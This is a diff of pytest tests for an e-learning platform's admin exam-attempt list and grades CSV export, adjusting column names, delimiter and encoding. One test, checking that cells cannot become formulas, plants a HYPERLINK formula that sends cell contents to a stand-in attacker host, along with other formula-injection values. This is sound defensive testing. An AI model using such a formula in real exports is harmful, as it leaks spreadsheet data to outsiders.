@@ -103,7 +103,7 @@ def test_attempts_list_shows_scores(admin_client_, two_learners_took_the_exam):
     assert response.status_code == 200
     html = response.content.decode()
     assert "Grades (CSV)" in html
-    assert "90.00" in html or "90,00" in html
+    assert "90 %" in html
     detail = admin_client_.get(
         f"/admin/quizzes/examattempt/{response.context['cl'].result_list[0].pk}/change/"
     )
@@ -114,12 +114,14 @@ def test_grades_csv(admin_client_, two_learners_took_the_exam):
     response = admin_client_.get("/admin/quizzes/examattempt/grades.csv")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
-    by_user = {row["username"]: row for row in rows}
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    by_user = {row["Username"]: row for row in rows}
     assert set(by_user) == {"strong", "weak"}
-    assert by_user["strong"]["final_grade"] == "90.00" and by_user["strong"]["passed"] == "True"
-    assert by_user["strong"]["certificate_issued"] == "True"
-    assert by_user["weak"]["final_grade"] == "30.00" and by_user["weak"]["passed"] == "False"
+    assert by_user["strong"]["Final grade (%)"] == "90.00"
+    assert by_user["strong"]["Passed"] == "yes"
+    assert by_user["strong"]["Certificate issued"] == "yes"
+    assert by_user["weak"]["Final grade (%)"] == "30.00" and by_user["weak"]["Passed"] == "no"
+    assert by_user["weak"]["Full name"] == "Lena Lernende"  # not the display name "Weak"
     one = admin_client_.get("/admin/quizzes/examattempt/grades.csv?module=self-hosting-27")
     assert one.content == response.content
 
@@ -131,22 +133,21 @@ def test_grades_csv_cells_cannot_become_formulas(admin_client_, two_learners_too
 
     get_user_model().objects.filter(username="strong").update(
         username="@strong",
-        display_name='=HYPERLINK("https://evil.example/?"&A1,"Noten")',
+        full_name='=HYPERLINK("https://evil.example/?"&A1,"Noten")',
         email="+strong@example.org",
     )
-    get_user_model().objects.filter(username="weak").update(display_name="-2+3")
+    get_user_model().objects.filter(username="weak").update(full_name="-2+3")
     response = admin_client_.get("/admin/quizzes/examattempt/grades.csv")
-    by_user = {
-        row["username"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))
-    }
+    text = io.StringIO(response.content.decode("utf-8-sig"))
+    by_user = {row["Username"]: row for row in csv.DictReader(text, delimiter=";")}
     assert set(by_user) == {"'@strong", "weak"}
     strong = by_user["'@strong"]
-    assert strong["name"] == """'=HYPERLINK("https://evil.example/?"&A1,"Noten")"""
-    assert strong["email"] == "'+strong@example.org"
-    assert by_user["weak"]["name"] == "'-2+3"
-    # What Lernpfad itself writes (numbers, booleans, times) stays as it is.
-    assert strong["final_grade"] == "90.00" and strong["passed"] == "True"
-    assert strong["last_finalized_at"][:2] == "20"
+    assert strong["Full name"] == """'=HYPERLINK("https://evil.example/?"&A1,"Noten")"""
+    assert strong["E-mail"] == "'+strong@example.org"
+    assert by_user["weak"]["Full name"] == "'-2+3"
+    # What Lernpfad itself writes (numbers, yes/no, times) stays as it is.
+    assert strong["Final grade (%)"] == "90.00" and strong["Passed"] == "yes"
+    assert strong["Last attempt finished"][:2] == "20"
 
 
 @pytest.mark.parametrize("module", ["no-such-module", "x" * 300, "ä"])
